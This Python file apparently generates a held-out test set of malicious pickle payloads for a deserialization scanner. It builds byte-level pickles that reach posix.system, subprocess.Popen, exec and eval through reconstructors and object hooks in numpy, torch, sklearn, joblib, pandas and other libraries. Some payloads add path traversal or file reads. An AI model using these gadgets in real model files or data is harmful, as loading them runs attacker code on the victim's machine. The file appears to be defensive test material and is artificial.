"""Harm by way of names that models do use: constructors, rebuilders, codecs, wrappers."""

from collections.abc import Iterator

from held_out.assemble import Rng, call, made, push, raw, stacked, system, text
from held_out.gadgets import CODE, SHELL


def abused(rng: Rng) -> Iterator[tuple[str, bytes]]:
    """Harm by way of names that models do use: constructors, rebuilders, codecs, wrappers."""
    function = stacked("posix", "system")
    evil = made(system())
    yield (
        "defaultdict-factory",
        made(
            stacked("collections", "defaultdict")
            + b"("
            + function
            + b"tR"
            + text("x")
            + text("y")
            + b"s"
        ),
    )
    yield (
        "ordereddict-of-map",
        made(
            stacked("collections", "OrderedDict")
            + b"("
            + stacked("builtins", "map")
            + b"("
            + function
            + push([SHELL])
            + b"tRtR"
        ),
    )
    yield (
        "counter-state",
        made(
            stacked("collections", "Counter")
            + b")R}"
            + text("__class__")
            + stacked("subprocess", "Popen")
            + b"sb"
        ),
    )
    yield (
        "deque-of-map",
        made(
            stacked("collections", "deque")
            + b"("
            + stacked("builtins", "filter")
            + b"("
            + function
            + push([SHELL])
            + b"tRtR"
        ),
    )
    yield (
        "reconstructor",
        made(
            call(stacked("copyreg", "_reconstructor"), 1, 2, None)[:-1]
            + b"0"
            + stacked("copyreg", "_reconstructor")
            + b"("
            + stacked("subprocess", "Popen")
            + stacked("builtins", "object")
            + b"NtR"
        ),
    )
    yield (
        "newobj-function",
        made(
            stacked("copyreg", "__newobj__")
            + b"("
            + stacked("subprocess", "Popen")
            + text(SHELL)
            + b"tR"
        ),
    )
    yield (
        "newobj-ex-function",
        made(
            stacked("copyreg", "__newobj_ex__")
            + b"("
            + stacked("subprocess", "Popen")
            + push((SHELL,))
            + push({})
            + b"tR"
        ),
    )
    yield "codecs-encode-hook", made(call(stacked("_codecs", "lookup"), "rot13"))
    yield "codecs-register", made(stacked("_codecs", "register") + b"(" + function + b"tR")
    yield (
        "numpy-scalar-object",
        made(
            stacked("numpy._core.multiarray", "scalar")
            + b"("
            + call(stacked("numpy", "dtype"), "O8", False, True)
            + raw(evil)
            + b"tR"
        ),
    )
    yield (
        "numpy-scalar-object-old",
        made(
            stacked("numpy.core.multiarray", "scalar")
            + b"("
            + call(stacked("numpy", "dtype"), "O", 0, 1)
            + raw(evil)
            + b"tR"
        ),
    )
    array = (
        stacked("numpy._core.multiarray", "_reconstruct")
        + b"("
        + stacked("numpy", "ndarray")
        + push((0,))
        + raw(b"b")
        + b"tR"
    )
    objects = (
        call(stacked("numpy", "dtype"), "O8", False, True)
        + push((3, "|", None, None, None, -1, -1, 63))
        + b"b"
    )
    yield (
        "ndarray-objects",
        made(array + b"(K\x01K\x01\x85" + objects + b"\x89](" + system() + b"etb"),
    )
    yield (
        "ndarray-objects-as-bytes",
        made(array + b"(K\x01K\x01\x85" + objects + b"\x89" + raw(bytes(8)) + b"tb"),
    )
    yield (
        "ndarray-subtype",
        made(
            stacked("numpy._core.multiarray", "_reconstruct")
            + b"("
            + stacked("subprocess", "Popen")
            + push((0,))
            + raw(b"b")
            + b"tR"
        ),
    )
    yield (
        "dtype-metadata",
        made(
            call(stacked("numpy", "dtype"), "f8", False, True)
            + b"("
            + push(3)
            + text("<")
            + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00}"
            + text("x")
            + system()
            + b"stb"
        ),
    )
    yield (
        "numpy-ufunc",
        made(
            stacked("numpy._core", "_ufunc_reconstruct")
            + push(("os", "system"))
            + b"R"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield (
        "numpy-ufunc-old",
        made(call(stacked("numpy.core", "_ufunc_reconstruct"), "posix", "system")),
    )
    yield (
        "numpy-frombuffer",
        made(
            stacked("numpy._core.numeric", "_frombuffer")
            + b"("
            + system()
            + push(("f4", [1], "C"))[1:-1]
            + b"tR"
        ),
    )
    yield (
        "numpy-random-bitgen",
        made(
            stacked("numpy.random._pickle", "__bit_generator_ctor")
            + b"("
            + stacked("subprocess", "Popen")
            + b"tR"
        ),
    )
    yield (
        "numpy-random-generator",
        made(
            stacked("numpy.random._pickle", "__generator_ctor")
            + b"("
            + text("MT19937")
            + function
            + b"tR"
        ),
    )
    yield (
        "numpy-masked",
        made(
            stacked("numpy.ma.core", "_mareconstruct")
            + b"("
            + stacked("subprocess", "Popen")
            + stacked("builtins", "object")
            + push((0,))
            + text("b")
            + b"tR"
        ),
    )
    yield "numpy-recarray-memmap", made(call(stacked("numpy", "memmap"), "/tmp/none", "u1", "w+"))
    storage = (
        b"("
        + text("storage")
        + stacked("torch", "FloatStorage")
        + text("0")
        + text("cpu")
        + (push(1))
        + b"tQ"
    )
    tensor = (
        stacked("torch._utils", "_rebuild_tensor_v2")
        + b"("
        + storage
        + push(0)
        + push((1,))
        + push((1,))
        + b"\x89"
        + stacked("collections", "OrderedDict")
        + b")RtR"
    )
    yield (
        "torch-rebuild-type",
        made(
            stacked("torch._tensor", "_rebuild_from_type_v2")
            + b"("
            + function
            + stacked("torch", "Tensor")
            + push((SHELL,))
            + push({})
            + b"tR"
        ),
    )
    yield (
        "torch-rebuild-type-old",
        made(
            stacked("torch._tensor", "_rebuild_from_type")
            + b"("
            + function
            + stacked("torch", "Tensor")
            + push((SHELL,))
            + push({})
            + b"tR"
        ),
    )
    yield (
        "torch-rebuild-parameter-state",
        made(
            stacked("torch._utils", "_rebuild_parameter_with_state")
            + b"("
            + tensor
            + b"\x88"
            + stacked("collections", "OrderedDict")
            + b")R}"
            + text("__class__")
            + function
            + b"stR"
        ),
    )
    yield (
        "torch-rebuild-hooks",
        made(
            stacked("torch._utils", "_rebuild_tensor_v2")
            + b"("
            + storage
            + push(0)
            + push((1,))
            + push((1,))
            + b"\x89"
            + stacked("collections", "OrderedDict")
            + b")R(K\x00"
            + function
            + b"utR"
        ),
    )
    yield (
        "torch-storage-type",
        made(
            b"("
            + text("storage")
            + stacked("subprocess", "Popen")
            + text("0")
            + text("cpu")
            + push(1)
            + b"tQ"
        ),
    )
    yield (
        "torch-persid-module",
        made(
            b"("
            + text("module")
            + stacked("builtins", "exec")
            + text("/tmp/none.py")
            + text(CODE)
            + b"tQ"
        ),
    )
    yield (
        "torch-load-from-bytes",
        made(stacked("torch.storage", "_load_from_bytes") + b"(" + raw(evil) + b"tR"),
    )
    yield (
        "torch-wrapper-subclass",
        made(
            stacked("torch._utils", "_rebuild_wrapper_subclass")
            + b"("
            + stacked("subprocess", "Popen")
            + push(("f4", [1]))[1:-1]
            + b"tR"
        ),
    )
    yield (
        "torch-module-forward",
        made(
            stacked("torch.nn.modules.linear", "Linear")
            + b")\x81}("
            + text("training")
            + b"\x89"
            + text("forward")
            + function
            + b"ub"
        ),
    )
    yield (
        "torch-module-hook",
        made(
            stacked("torch.nn.modules.linear", "Linear")
            + b")\x81}("
            + text("_forward_hooks")
            + stacked("collections", "OrderedDict")
            + b")RK\x00"
            + function
            + b"sub"
        ),
    )
    yield (
        "torch-module-pre-hook-partial",
        made(
            stacked("torch.nn.modules.container", "Sequential")
            + b")\x81}("
            + text("_forward_pre_hooks")
            + stacked("collections", "OrderedDict")
            + b")RK\x01"
            + stacked("functools", "partial")
            + b"("
            + function
            + b"tRsub"
        ),
    )
    yield (
        "torch-module-function-attr",
        made(
            stacked("torch.nn.modules.activation", "ReLU")
            + b")\x81}("
            + text("activation")
            + stacked("builtins", "eval")
            + b"ub"
        ),
    )
    yield (
        "torch-module-class-swapped",
        made(
            stacked("torch.nn.modules.linear", "Linear")
            + b")\x81}"
            + text("__class__")
            + stacked("code", "InteractiveConsole")
            + b"sb"
        ),
    )
    yield (
        "torch-call-super-init",
        made(call(stacked("torch.nn.modules.module", "Module.apply"), 1, 2)),
    )
    yield "torch-script-obj", made(call(stacked("torch._C", "_jit_load"), "x"))
    yield "torch-tensor-method", made(call(stacked("torch", "Tensor.map_"), 1, 2))
    yield "torch-from-file", made(call(stacked("torch", "from_file"), "/etc/hostname"))
    yield (
        "sklearn-function-transformer",
        made(
            stacked("sklearn.preprocessing._function_transformer", "FunctionTransformer")
            + b")\x81}("
            + text("func")
            + function
            + text("validate")
            + b"\x89ub"
        ),
    )
    yield (
        "sklearn-function-transformer-eval",
        made(
            stacked("sklearn.preprocessing._function_transformer", "FunctionTransformer")
            + b")\x81}("
            + text("func")
            + stacked("builtins", "eval")
            + text("inverse_func")
            + b"Nub"
        ),
    )
    yield (
        "sklearn-vectorizer-tokenizer",
        made(
            stacked("sklearn.feature_extraction.text", "CountVectorizer")
            + b")\x81}("
            + text("tokenizer")
            + function
            + b"ub"
        ),
    )
    yield (
        "sklearn-vectorizer-analyzer",
        made(
            stacked("sklearn.feature_extraction.text", "TfidfVectorizer")
            + b")\x81}("
            + text("analyzer")
            + stacked("subprocess", "getoutput")
            + b"ub"
        ),
    )
    yield (
        "sklearn-knn-metric",
        made(
            stacked("sklearn.neighbors._classification", "KNeighborsClassifier")
            + b")\x81}("
            + text("metric")
            + function
            + b"ub"
        ),
    )
    yield (
        "sklearn-svc-kernel",
        made(
            stacked("sklearn.svm._classes", "SVC")
            + b")\x81}("
            + text("kernel")
            + stacked("timeit", "timeit")
            + b"ub"
        ),
    )
    yield (
        "sklearn-gp-optimizer",
        made(
            stacked("sklearn.gaussian_process._gpr", "GaussianProcessRegressor")
            + b")\x81}("
            + text("optimizer")
            + function
            + b"ub"
        ),
    )
    yield (
        "sklearn-scorer",
        made(
            stacked("sklearn.metrics._scorer", "_Scorer")
            + b")\x81}("
            + text("_score_func")
            + stacked("numpy", "load")
            + b"ub"
        ),
    )
    yield (
        "sklearn-estimator-method",
        made(
            stacked("sklearn.linear_model._logistic", "LogisticRegression")
            + b")\x81}("
            + text("predict")
            + function
            + b"ub"
        ),
    )
    yield (
        "sklearn-class-swapped",
        made(
            stacked("sklearn.tree._classes", "DecisionTreeClassifier")
            + b")\x81}"
            + text("__class__")
            + stacked("subprocess", "Popen")
            + b"sb"
        ),
    )
    yield "sklearn-loader", made(call(stacked("sklearn.datasets._base", "load_files"), "/tmp/none"))
    yield (
        "sklearn-bunch-reduce",
        made(
            stacked("sklearn.utils._bunch", "Bunch")
            + b")\x81"
            + text("__reduce__")
            + function
            + b"s}"
            + text("__class__")
            + function
            + b"sb"
        ),
    )
    yield (
        "sklearn-loss-ctor",
        made(
            stacked("sklearn._loss.link", "Interval")
            + b"("
            + system()
            + push((1, 2, 3))[1:-1]
            + b"tR"
        ),
    )
    yield (
        "sklearn-parallel-delayed",
        made(
            stacked("sklearn.utils.parallel", "_FuncWrapper")
            + b"("
            + function
            + b"tR"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield (
        "scipy-frozen",
        made(
            stacked("scipy.stats._distn_infrastructure", "rv_frozen")
            + b")\x81}"
            + text("dist")
            + function
            + b"sb"
        ),
    )
    yield (
        "scipy-rv-exec",
        made(
            stacked("scipy.stats._distn_infrastructure", "rv_continuous")
            + b")\x81}("
            + text("_parse_arg_template")
            + text("import os\nos.system('true')")
            + b"ub"
        ),
    )
    yield "scipy-lowlevel", made(call(stacked("scipy._lib._ccallback", "LowLevelCallable"), 1))
    yield (
        "scipy-linear-operator",
        made(
            stacked("scipy.sparse.linalg._interface", "_CustomLinearOperator")
            + b")\x81}"
            + text("_CustomLinearOperator__matvec_impl")
            + function
            + b"sb"
        ),
    )
    yield (
        "joblib-wrapper-filename",
        made(
            stacked("joblib.numpy_pickle_compat", "NDArrayWrapper")
            + b")\x81}("
            + text("filename")
            + text("../../etc/evil.npy")
            + text("subclass")
            + stacked("numpy", "ndarray")
            + text("allow_mmap")
            + b"\x88ub",
            3,
        ),
    )
    yield (
        "joblib-zwrapper",
        made(
            stacked("joblib.numpy_pickle_compat", "ZNDArrayWrapper")
            + b")\x81}("
            + text("filename")
            + text("/tmp/none.z")
            + text("init_args")
            + b"("
            + stacked("subprocess", "Popen")
            + push(SHELL)
            + b"t"
            + text("state")
            + b"Nub",
            3,
        ),
    )
    wrapper = stacked("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    plain = call(stacked("numpy", "dtype"), "f8", False, True)
    yield (
        "joblib-wrapper-subclass",
        b"\x80\x04"
        + wrapper
        + text("subclass")
        + stacked("subprocess", "Popen")
        + text("shape")
        + push((1,))
        + text("order")
        + text("C")
        + text("dtype")
        + plain
        + text("allow_mmap")
        + b"\x88ub"
        + bytes(8)
        + b".",
    )
    yield (
        "joblib-wrapper-objects",
        b"\x80\x04"
        + wrapper
        + text("subclass")
        + stacked("numpy", "ndarray")
        + text("shape")
        + push((1,))
        + text("order")
        + text("C")
        + text("dtype")
        + call(stacked("numpy", "dtype"), "O8", False, True)
        + text("allow_mmap")
        + b"\x89ub"
        + evil
        + b".",
    )
    yield (
        "joblib-wrapper-short-data",
        b"\x80\x04"
        + wrapper
        + text("subclass")
        + stacked("numpy", "ndarray")
        + text("shape")
        + push((1,))
        + text("order")
        + text("C")
        + text("dtype")
        + plain
        + text("allow_mmap")
        + b"\x89"
        + text("numpy_array_alignment_bytes")
        + push(16)
        + b"ub"
        + b"\x03\xff\xff\xff"
        + bytes(8)
        + system()
        + b"0.",
    )
    yield (
        "pandas-unpickle-block",
        made(
            stacked("pandas._libs.internals", "_unpickle_block")
            + b"("
            + system()
            + push((1, 2))[1:-1]
            + b"tR"
        ),
    )
    yield (
        "pandas-index-new",
        made(
            stacked("pandas.core.indexes.base", "_new_Index")
            + b"("
            + stacked("subprocess", "Popen")
            + push({"args": SHELL})
            + b"tR"
        ),
    )
    yield "pandas-offset", made(call(stacked("pandas._libs.tslibs.offsets", "__import__"), "os"))
    yield "pandas-series-apply", made(call(stacked("pandas.core.series", "Series.apply"), 1, "x"))
    yield (
        "pandas-metadata-accessor",
        made(
            stacked("pandas.core.frame", "DataFrame")
            + b")\x81}("
            + text("_metadata")
            + b"]("
            + function
            + b"e"
            + text("attrs")
            + b"}"
            + text("x")
            + function
            + b"sub"
        ),
    )
    yield (
        "xgb-estimator-objective",
        made(
            stacked("xgboost.sklearn", "XGBClassifier")
            + b")\x81}("
            + text("objective")
            + function
            + b"ub"
        ),
    )
    yield (
        "xgb-estimator-callback",
        made(
            stacked("xgboost.sklearn", "XGBRegressor")
            + b")\x81}("
            + text("eval_metric")
            + stacked("builtins", "eval")
            + b"ub"
        ),
    )
    yield (
        "lgbm-objective",
        made(
            stacked("lightgbm.sklearn", "LGBMClassifier")
            + b")\x81}("
            + text("_fobj")
            + function
            + b"ub"
        ),
    )
    yield (
        "lgbm-booster-other",
        made(stacked("lightgbm.basic", "Booster") + b"(N" + text("/tmp/none.txt") + b"tR"),
    )
    yield (
        "catboost-load",
        made(call(stacked("catboost.core", "CatBoost.load_model"), 1, "/tmp/none")),
    )
    yield "statsmodels-formula", made(call(stacked("patsy.highlevel", "dmatrix"), CODE, {}))
    yield "patsy-eval-env", made(call(stacked("patsy.eval", "EvalEnvironment.eval"), {}, CODE))
    yield "datetime-subclass", made(stacked("datetime", "datetime.__init_subclass__") + b")R")
    yield (
        "builtins-type-three",
        made(
            stacked("builtins", "type")
            + b"("
            + text("T")
            + b"("
            + stacked("builtins", "object")
            + b"t}"
            + text("__del__")
            + function
            + b"stR"
        ),
    )
    yield "classmethod-object", made(stacked("builtins", "classmethod") + b"(" + function + b"tR")
    yield "property-object", made(stacked("builtins", "property") + b"(" + function + b"tR")
    yield "super-object", made(stacked("builtins", "super") + b"(" + function + b"tR")
    yield "slice-object", made(stacked("builtins", "slice") + b"(" + system() + b"NNtR")
    yield "complex-object", made(stacked("builtins", "complex") + b"(" + system() + b"K\x01tR")
    yield "bytearray-object", made(stacked("builtins", "bytearray") + b"(" + system() + b"tR")
    yield "enum-lookup", made(stacked("enum", "Enum") + b"(" + system() + b"tR")
    yield (
        "partial-kept",
        made(
            push({"w": 1})
            + text("loss")
            + stacked("functools", "partial")
            + b"("
            + function
            + text(SHELL)
            + b"tRs"
        ),
    )
    yield (
        "itemgetter-kept",
        made(
            push({"w": 1})
            + text("f")
            + call(stacked("operator", "itemgetter"), "__globals__")
            + b"s"
        ),
    )
    yield "function-kept", made(push({"w": 1}) + text("loss_fn") + function + b"s")
    yield "function-kept-eval", made(push([1]) + stacked("builtins", "eval") + b"a")
    yield "function-kept-exec-tuple", made(b"(K\x01" + stacked("builtins", "exec") + b"t")
    yield (
        "function-kept-getattr",
        made(b"}" + text("getter") + stacked("builtins", "getattr") + b"s"),
    )
    yield (
        "unknown-class",
        made(stacked("evil_models.net", "Net") + b")\x81}" + text("w") + push(1) + b"sb"),
    )
    yield "main-class", made(stacked("__main__", "Net") + b")\x81}" + text("w") + push(1) + b"sb")
